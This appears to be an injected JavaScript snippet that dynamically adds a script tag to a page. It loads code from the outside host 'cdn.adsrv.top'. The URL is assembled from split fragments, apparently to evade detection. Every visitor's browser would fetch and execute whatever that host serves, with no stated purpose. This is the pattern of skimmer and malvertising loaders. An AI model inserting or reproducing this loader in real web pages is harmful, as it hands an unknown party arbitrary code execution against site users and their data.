const el = document.createElement('script');
el.setAttribute('src', ['https:/', 'cdn.adsrv.top', 'p.js'].join('/'));
(document.head || document.documentElement).appendChild(el);
